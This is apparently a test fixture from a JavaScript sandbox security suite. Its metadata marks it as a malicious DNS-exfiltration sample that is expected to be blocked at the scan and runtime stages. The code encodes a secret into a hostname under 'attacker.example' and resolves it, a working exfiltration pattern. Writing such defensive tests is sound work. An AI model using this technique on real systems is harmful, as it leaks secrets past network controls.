/*---
id: ex-dns-os-01-dns-lookup
description: "Requires dns to resolve a hostname that encodes the input, the classic DNS exfiltration channel that needs no HTTP access at all."
kind: malicious
category: exfiltration
technique: EX-dns-os
variant: plain
references:
  - "GHSA-m5w8-4gq2-6f8x"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
  high-security: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
  tenant-isolated: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
input: { secret: "abc123" }
flags: [async]
---*/
const dns = require('dns');
await dns.promises.lookup(input.secret + '.attacker.example');
return 'resolved';
